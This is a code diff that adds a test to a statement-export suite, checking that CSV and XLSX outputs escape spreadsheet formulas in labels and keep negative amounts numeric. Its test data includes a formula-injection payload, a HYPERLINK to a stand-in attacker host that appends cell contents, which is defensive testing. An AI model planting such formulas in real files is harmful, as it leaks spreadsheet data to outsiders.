@@ -97,6 +97,17 @@ describe('the statement files', () => {
     const rows = book.getWorksheet('Statement')!.getSheetValues().slice(1);
     expect((rows[3] as unknown[]).slice(1)).toEqual(['k2', 300, 45, 1.5, 0, 3.47, 0, 250.03]);
   });
+
+  it('CSV and XLSX: a label that a spreadsheet would run as a formula is written as text; negative amounts stay numbers', async () => {
+    const hostile = { ...line('=HYPERLINK("http://evil.example/?"&A1)', 1n), refundsMinor: 9000n, netMinor: -1200n };
+    const csv = statementCsv([hostile], total, 'EUR').split('\r\n');
+    expect(csv[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1)",100.00,15.00,1.50,0.00,3.47,90.00,-12.00`);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(new Uint8Array(await statementXlsx('@SUM(A1:A9)', [hostile], total, 'EUR')).buffer);
+    const rows = book.getWorksheet('Statement')!.getSheetValues().slice(1);
+    expect((rows[0] as unknown[])[1]).toBe("'@SUM(A1:A9)");
+    expect((rows[2] as unknown[]).slice(1)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1)', 100, 15, 1.5, 0, 3.47, 90, -12]);
+  });
 });
 
 describe('the statement PDF', () => {
